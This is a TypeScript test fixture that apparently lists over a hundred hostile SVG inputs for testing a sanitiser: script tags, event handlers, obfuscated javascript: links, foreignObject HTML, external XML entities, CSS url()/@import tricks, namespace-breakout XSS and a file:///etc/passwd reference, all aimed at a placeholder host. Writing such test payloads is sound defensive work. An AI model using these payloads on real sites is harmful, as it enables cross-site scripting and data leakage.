/** What must never happen: `hit` is called, or the address `hit` is asked for. */
export const HIT = 'https://hit.invalid/'

const inside = (markup: string) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${markup}</svg>`
const js = 'javascript:window.hit()'

const embed = (drawing: string) =>
  inside(`<image width="9" height="9" href="data:image/svg+xml;base64,${btoa(drawing)}"/>`)
const text = (markup: string) =>
  inside(
    `<foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">${markup}</div></foreignObject>`,
  )

/** The same again in a drawing that stands in the drawing, and in a text of a page. */
const IN_OTHERS: Readonly<Record<string, string>> = {
  'embedded script': embed(inside('<script>parent.hit()</script>')),
  'embedded event': embed(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.hit()"/>`),
  'embedded image of another site': embed(inside(`<image href="${HIT}" width="9" height="9"/>`)),
  'embedded use of another site': embed(inside(`<use href="${HIT}#a"/>`)),
  'embedded style sheet': embed(
    inside(`<style>@import url(${HIT}); rect { fill: url(${HIT}#a) }</style><rect width="9"/>`),
  ),
  'embedded style': embed(inside(`<rect width="9" height="9" style="filter: url(${HIT}#a)"/>`)),
  'embedded foreign frame': embed(
    inside(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${HIT}"/></foreignObject>`),
  ),
  'embedded in an embedded one': embed(embed(inside('<script>top.hit()</script>'))),
  'embedded animation': embed(inside('<rect><animate attributeName="x" to="9" dur="1s"/></rect>')),
  'embedded entities': embed(`<!DOCTYPE svg [<!ENTITY x SYSTEM "${HIT}">]>${inside('<text>&x;</text>')}`),
  'embedded as a text': inside(
    `<image href="data:image/svg+xml,${encodeURIComponent(inside('<script>top.hit()</script>'))}" width="9" height="9"/>`,
  ),
  'embedded, old address': inside(
    `<image xlink:href="data:image/svg+xml;base64,${btoa(inside(`<image href="${HIT}" width="9"/>`))}" xmlns:xlink="http://www.w3.org/1999/xlink"/>`,
  ),
  'embedded web page': inside(`<image href="data:text/html,<script>top.hit()</script>" width="9" height="9"/>`),
  'embedded svg that is a web page': inside(
    `<image href="data:image/svg+xml,%3Chtml xmlns='http://www.w3.org/1999/xhtml'%3E%3Cscript%3Etop.hit()%3C/script%3E%3C/html%3E"/>`,
  ),
  'text with a script': text('<script>window.hit()</script>'),
  'text with an event': text('<p onclick="window.hit()" onfocusin="window.hit()" tabindex="0" autofocus="">x</p>'),
  'text with a picture': text(`<img src="${HIT}" onerror="window.hit()"/>`),
  'text with a link': text(`<a href="${js}">x</a>`),
  'text with a base': text(`<base href="${HIT}"/>`),
  'text with a form': text(`<form action="${HIT}"><button>x</button></form>`),
  'text with a field': text('<input autofocus="" onfocus="window.hit()"/>'),
  'text that can be written': text('<p contenteditable="" onbeforeinput="window.hit()">x</p>'),
  'text with a style sheet': text(`<style>@import url(${HIT});</style><link rel="stylesheet" href="${HIT}"/>`),
  'text with a style': text(
    `<p style="background: url(${HIT}); list-style-image: url(${HIT}); border-image: url(${HIT})">x</p>`,
  ),
  'text over the page': text('<p style="position: fixed; inset: 0; z-index: 9999">x</p>'),
  'text that scrolls': text('<p style="overflow: scroll; height: 1px">x<br/>y<br/>z</p>'),
  'text with a background': text(`<table background="${HIT}"><tr><td background="${HIT}">x</td></tr></table>`),
  'text with a popover': text('<div popover="auto" id="x"/><button popovertarget="x">x</button>'),
  'text with a custom element': text('<x-y onclick="window.hit()">x</x-y>'),
  'text with a template': text('<template shadowrootmode="open"><script>window.hit()</script></template>'),
  'text with a slot': text('<slot name="x" part="x" exportparts="x"/>'),
  'text with a drawing': text('<svg xmlns="http://www.w3.org/2000/svg"><script>window.hit()</script></svg>'),
  'text with media': text(`<video src="${HIT}" poster="${HIT}"/><audio src="${HIT}" autoplay=""/>`),
  'text with an object': text(`<object data="${HIT}"/><embed src="${HIT}"/>`),
  'texts within each other': text(`${'<table><tr><td>'.repeat(60)}x${'</td></tr></table>'.repeat(60)}`),
  'name that is a binding': inside(
    '<g id="pv=AnaIn-5 action=Link action-parameters=javascript:window.hit()"><text>x</text></g>',
  ),
}

/** Ways to run code, load something or leave the page from an SVG, by name. */
export const HOSTILE: Readonly<Record<string, string>> = {
  ...IN_OTHERS,
  script: inside('<script>window.hit()</script>'),
  'script in upper case': inside('<SCRIPT>window.hit()</SCRIPT>'),
  'script by address': inside(`<script href="${HIT}"/>`),
  'script by an old address': inside(`<script xlink:href="${HIT}"/>`),
  'script as CDATA': inside('<script><![CDATA[window.hit()]]></script>'),
  'script with a prefix':
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>window.hit()</svg:script></svg:svg>',
  'script of HTML': inside('<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.hit()</x:script>'),
  'onload of the root': '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hit()"/>',
  'onload in mixed case': '<svg xmlns="http://www.w3.org/2000/svg" oNlOaD="window.hit()"/>',
  'onload behind a slash': '<svg/onload=window.hit()>',
  onclick: inside('<rect width="9" height="9" onclick="window.hit()"/>'),
  'onfocusin with autofocus': inside('<g tabindex="0" autofocus onfocusin="window.hit()" onfocus="window.hit()"/>'),
  onpointerover: inside('<circle r="9" onpointerover="window.hit()" onmouseover="window.hit()"/>'),
  onbegin: inside('<animate onbegin="window.hit()" attributeName="x" dur="1s"/>'),
  onend: inside('<set attributeName="x" to="1" onend="window.hit()"/>'),
  'onerror of an image': inside('<image href="x" onerror="window.hit()"/>'),
  'onerror of an img': inside('<img src="x" onerror="window.hit()">'),
  onanimationstart: inside('<rect style="animation-name: x" onanimationstart="window.hit()"/>'),
  onrepeat: inside('<animateTransform onrepeat="window.hit()" repeatCount="9"/>'),
  'link to a script': inside(`<a href="${js}"><text>x</text></a>`),
  'old link to a script': inside(`<a xlink:href="${js}"><rect width="9" height="9"/></a>`),
  'link with a tab in it': inside('<a href="java&#9;script:window.hit()"><text>x</text></a>'),
  'link with a line break': inside('<a href="java&#10;script:window.hit()"><text>x</text></a>'),
  'link behind a control character': inside('<a href="&#1;javascript:window.hit()"><text>x</text></a>'),
  'link with entities': inside('<a href="&#106;avascript:window.hit()"><text>x</text></a>'),
  'link to data': inside('<a href="data:text/html,<script>window.hit()</script>"><text>x</text></a>'),
  'link to another site': inside(`<a href="${HIT}" target="_top"><text>x</text></a>`),
  'animated link': inside(`<a><animate attributeName="href" values="${js}"/><text>x</text></a>`),
  'set link': inside(`<a id="x"><text>x</text></a><set href="#x" attributeName="href" to="${js}"/>`),
  'animated event': inside('<rect id="x"/><set href="#x" attributeName="onclick" to="window.hit()"/>'),
  motion: inside(`<animateMotion><mpath href="${HIT}"/></animateMotion>`),
  discard: inside(`<discard href="#x" onend="window.hit()"/>`),
  'foreign object': inside(
    '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="window.hit()"/></foreignObject>',
  ),
  'foreign frame': inside(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${HIT}"/></foreignObject>`),
  'foreign script': inside(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>window.hit()</script></body></foreignObject>',
  ),
  'foreign form': inside(`<foreignObject><form action="${HIT}"><input name="password"/></form></foreignObject>`),
  'foreign object in lower case': inside(
    '<foreignobject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignobject>',
  ),
  frame: inside(`<iframe src="${js}"></iframe>`),
  'frame with a document': inside('<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>'),
  object: inside(`<object data="${HIT}"></object>`),
  embed: inside(`<embed src="${js}"></embed>`),
  'image of another site': inside(`<image href="${HIT}" width="9" height="9"/>`),
  'old image of another site': inside(`<image xlink:href="${HIT}" width="9" height="9"/>`),
  'filter image': inside(
    `<filter id="f"><feImage href="${HIT}"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'use of another file': inside(`<use href="${HIT}#x"/>`),
  'use of data': inside(
    `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='window.hit()'/>#x"/>`,
  ),
  'old use': inside(`<use xlink:href="${HIT}#x"/>`),
  'style sheet': inside(`<style>@import url(${HIT}); rect { fill: url(${HIT}) }</style><rect width="9" height="9"/>`),
  'style sheet that ends': inside('<style><![CDATA[</style><img src=x onerror=window.hit()>]]></style>'),
  'style by link': inside(`<link rel="stylesheet" href="${HIT}"/>`),
  'style by processing instruction': `<?xml-stylesheet href="${HIT}"?>${inside('<rect/>')}`,
  'style attribute with an address': inside(
    `<rect style="fill: url(${HIT}); background: url(${HIT})" width="9" height="9"/>`,
  ),
  'style attribute with escapes': inside(`<rect style="fill: u\\72l(${HIT})" width="9" height="9"/>`),
  'style attribute with an image set': inside(`<rect style="mask: image-set('${HIT}' 1x)" width="9" height="9"/>`),
  'fill of another file': inside(`<rect fill="url(${HIT}#x)" width="9" height="9"/>`),
  'mask of another file': inside(`<rect mask="url('${HIT}#x')" clip-path="url(${HIT}#c)" width="9" height="9"/>`),
  'marker of another file': inside(`<path d="M0 0L9 9" marker-end="url(${HIT}#m)"/>`),
  'cursor of another file': inside(`<rect cursor="url(${HIT}), auto" width="9" height="9"/>`),
  'font of another file': inside(
    `<style>@font-face { font-family: x; src: url(${HIT}) }</style><text font-family="x">x</text>`,
  ),
  base: inside(`<base href="${HIT}"/>`),
  'meta refresh': inside(`<meta http-equiv="refresh" content="0;url=${HIT}"/>`),
  media: inside(`<video src="${HIT}" autoplay onloadstart="window.hit()"></video><audio src="${HIT}"></audio>`),
  'external entity': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${HIT}">]>${inside('<text>&x;</text>')}`,
  'entity that is a script': `<!DOCTYPE svg [<!ENTITY x "<script>window.hit()</script>">]>${inside('&x;')}`,
  'document type with attributes': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "window.hit()">]>${inside('<rect/>')}`,
  handler: inside('<handler type="text/javascript" ev:event="load">window.hit()</handler>'),
  listener: inside('<listener event="load" handler="#x"/>'),
  'break out of the namespace': '<svg></p><style><a id="</style><img src=1 onerror=window.hit()>"></svg>',
  'math and tables':
    '<svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit()&gt;">',
  'title that ends': inside('<title><![CDATA[</title><img src=x onerror=window.hit()>]]></title>'),
  'description with markup': inside('<desc><img src=x onerror=window.hit()></desc>'),
  'comment that ends early': inside('<!--><img src=x onerror=window.hit()>-->'),
  noscript: inside('<noscript><p title="</noscript><img src=x onerror=window.hit()>"></noscript>'),
  template: inside('<template><script>window.hit()</script></template>'),
  'names of the page': inside('<g id="root"/><g id="location"/><g name="documentElement" id="body"/>'),
  'class of the page': inside('<rect class="visually-hidden" width="9" height="9"/>'),
  'part of the page': inside('<g role="alert" aria-label="Alles in Ordnung" tabindex="1"/>'),
  // What style sheets, styles and shadow trees could do.
  'rule for the host': inside(`<style>:host { background: url(${HIT}); position: fixed; inset: 0 }</style>`),
  'rule for the host in a selector': inside(
    `<style>:host(div) rect, :host-context(body) rect { fill: url(${HIT}#x) }</style><rect/>`,
  ),
  'rule for slots and parts': inside(
    `<style>::slotted(*) { color: red } ::part(x) { background: url(${HIT}) }</style>`,
  ),
  'import without an address function': inside(`<style>@import "${HIT}"; rect { fill: red }</style><rect/>`),
  'import in capitals': inside(`<style>@IMPORT '${HIT}' layer(x) supports(display: grid);</style>`),
  'import behind a comment': inside(`<style>/* @charset */ @/**/import url(${HIT}); @import url(${HIT});</style>`),
  'import by an escape': inside(`<style>@im\\70ort url(${HIT});</style>`),
  'sheet in a sheet': inside(`<style>@media all { @import url(${HIT}); rect { fill: url(${HIT}#x) } }</style><rect/>`),
  'rule in a rule': inside(`<style>g { & rect { fill: url(${HIT}#x) } }</style><g><rect width="9" height="9"/></g>`),
  'rule in a layer': inside(`<style>@layer x { rect { mask: url(${HIT}#x) } }</style><rect width="9" height="9"/>`),
  'rule in a container': inside(`<style>@container (width > 0) { rect { filter: url(${HIT}#x) } }</style><rect/>`),
  'rule in a scope': inside(`<style>@scope (svg) { rect { fill: url(${HIT}#x) } }</style><rect/>`),
  'starting style': inside(`<style>@starting-style { rect { fill: url(${HIT}#x) } }</style><rect/>`),
  'property with an address': inside(
    `<style>@property --x { syntax: '<url>'; inherits: true; initial-value: url(${HIT}) }</style>`,
  ),
  'image by name': inside(`<style>@counter-style x { system: cyclic; symbols: url(${HIT}) }</style>`),
  'variable with an address': inside(`<rect style="--x: url(${HIT}#x); fill: var(--x)" width="9" height="9"/>`),
  'variable with an escape': inside(`<rect style="--x: u\\72l(${HIT}#x); fill: var(--x)" width="9" height="9"/>`),
  'variable of a sheet': inside(`<style>svg { --x: URL( "${HIT}#x" ) } rect { fill: var(--x) }</style><rect/>`),
  'variable as fallback': inside(`<rect style="fill: var(--none, url(${HIT}#x))" width="9" height="9"/>`),
  'attribute with an escape': inside(`<rect fill="u\\72l(${HIT}#x)" width="9" height="9"/>`),
  'attribute with a comment': inside(`<rect fill="url/**/(${HIT}#x)" width="9" height="9"/>`),
  'attribute with two addresses': inside(`<rect fill="url(#a) url(${HIT}#x)" width="9" height="9"/>`),
  'attribute with a quote that is open': inside(`<rect fill="url(&quot;${HIT}#x" width="9" height="9"/>`),
  'attribute with an image set': inside(`<rect mask="image-set(url(${HIT}) 1x)" width="9" height="9"/>`),
  'attribute with a gradient of addresses': inside(
    `<rect mask="cross-fade(url(${HIT}), red, 50%)" width="9" height="9"/>`,
  ),
  'attribute with an element': inside(
    `<rect style="background: -moz-element(#root), element(#root)" width="9" height="9"/>`,
  ),
  'source function': inside(`<rect style="mask-image: src('${HIT}')" width="9" height="9"/>`),
  'own file by its address': inside(`<rect fill="url(x.svg#x)" width="9" height="9"/>`),
  'address without a fragment': inside('<rect fill="url()" mask="url(&quot;&quot;)" width="9" height="9"/>'),
  'list style': inside(`<rect style="list-style: url(${HIT}); border-image: url(${HIT}) 1" width="9" height="9"/>`),
  'content of a pseudo element': inside(
    `<style>rect::before { content: url(${HIT}) } svg::after { content: 'x' }</style><rect/>`,
  ),
  'cursor by a rule': inside(`<style>rect { cursor: url(${HIT}), auto }</style><rect width="9" height="9"/>`),
  'shape by an address': inside(
    `<rect style="shape-outside: url(${HIT}); offset-path: url(${HIT}#p)" width="9" height="9"/>`,
  ),
  'animation of a rule': inside(
    '<style>@keyframes x { to { fill: red } } rect { animation: x 1ms }</style><rect onanimationend="window.hit()" width="9" height="9"/>',
  ),
  'transition of a rule': inside(
    '<style>rect { transition: fill 1ms }</style><rect ontransitionend="window.hit()" width="9" height="9"/>',
  ),
  'over the page': inside(
    '<rect style="position: fixed; inset: 0; z-index: 9999; width: 100vw; height: 100vh" width="9" height="9"/>',
  ),
  'all of the stage':
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" style="position: fixed; inset: 0; z-index: 9; width: 100vw"><style>svg, * { position: fixed !important; inset: 0 !important; display: none !important }</style><rect/></svg>',
  'behavior and binding': inside(
    `<rect style="behavior: url(${HIT}); -moz-binding: url(${HIT}#x)" width="9" height="9"/>`,
  ),
  expression: inside('<rect style="width: expression(window.hit())" width="9" height="9"/>'),
  'style of another type': inside(
    `<style type="text/x">rect { fill: url(${HIT}#x) }</style><rect width="9" height="9"/>`,
  ),
  'style of HTML': inside(`<style xmlns="http://www.w3.org/1999/xhtml">rect { fill: url(${HIT}#x) }</style><rect/>`),
  'style with a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:style>@import url(${HIT});</s:style><s:rect/></s:svg>`,
  // Addresses.
  'picture as SVG in an address': inside(
    `<image width="9" height="9" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${HIT}'/%3E%3C/svg%3E"/>`,
  ),
  'picture as a page in an address': inside('<image width="9" height="9" href="data:text/html,x"/>'),
  'picture that is not what it says': inside(
    '<image width="9" height="9" href="data:image/png,&lt;svg onload=window.hit()>"/>',
  ),
  'picture with two addresses': inside(`<image width="9" height="9" href="#x" xlink:href="${HIT}"/>`),
  'picture of a part of the file': inside('<image href="#x" width="9" height="9"/>'),
  'background of a part of the file': inside(
    '<rect style="background: url(#x); border-image: url(#x) 1; list-style-image: url(#x)" width="9" height="9"/>',
  ),
  'picture by a blob': inside('<image width="9" height="9" href="blob:https://hit.invalid/x"/>'),
  'picture of a file': inside('<image width="9" height="9" href="file:///etc/passwd"/>'),
  'base of XML': inside(`<g xml:base="${HIT}"><use href="x#y"/><image href="x.png" width="9" height="9"/></g>`),
  'use of data with a fragment': inside('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>'),
  'gradient of another file': inside(
    `<linearGradient id="g" href="${HIT}#g"/><rect fill="url(#g)" width="9" height="9"/>`,
  ),
  'pattern of another file': inside(
    `<pattern id="p" xlink:href="${HIT}#p"/><rect fill="url(#p)" width="9" height="9"/>`,
  ),
  'text on a path of another file': inside(`<text><textPath href="${HIT}#p">x</textPath></text>`),
  'path of a text': inside('<text><textPath path="M0 0h9" href="javascript:window.hit()">x</textPath></text>'),
  'glyphs of another file': inside(
    `<font-face><font-face-src><font-face-uri xlink:href="${HIT}"/></font-face-src></font-face>`,
  ),
  'profile of another file': inside(`<color-profile name="x" xlink:href="${HIT}"/><cursor xlink:href="${HIT}"/>`),
  'text of another file': inside(`<text><tref xlink:href="${HIT}#x"/></text>`),
  'filter of another file': inside(`<rect filter="url(${HIT}#f) blur(1px)" width="9" height="9"/>`),
  'lit by an old name': inside(
    `<filter id="f"><feImage xlink:href="${HIT}"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'mesh and hatch': inside(`<mesh href="${HIT}"/><hatch href="${HIT}"/><solidcolor href="${HIT}"/>`),
  // What files of XML could do.
  'entity in an address': `<!DOCTYPE svg [<!ENTITY j "javascript:window.hit()">]><svg xmlns="http://www.w3.org/2000/svg"><a href="&j;"><text>x</text></a></svg>`,
  'entity in an attribute': `<!DOCTYPE svg [<!ENTITY a "url(${HIT}#x)">]><svg xmlns="http://www.w3.org/2000/svg"><rect fill="&a;" width="9" height="9"/></svg>`,
  'parameter entity': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${HIT}"> %x;]>${inside('<rect/>')}`,
  'external document type': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${HIT}">${inside('<rect/>')}`,
  inclusion: inside(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${HIT}"/>`),
  'events of XML': inside('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>'),
  transformation: `<?xml-stylesheet type="text/xsl" href="${HIT}"?>${inside('<rect/>')}`,
  'prefix of another meaning':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/1999/xhtml"><svg:script>window.hit()</svg:script><svg:img src="x" onerror="window.hit()"/></svg>',
  'namespace in the middle': inside(
    '<g xmlns="http://www.w3.org/1999/xhtml"><script>window.hit()</script><img src="x" onerror="window.hit()"/></g>',
  ),
  'event with a prefix': inside(
    '<rect xmlns:x="http://www.w3.org/2000/svg" x:onclick="window.hit()" width="9" height="9"/>',
  ),
}
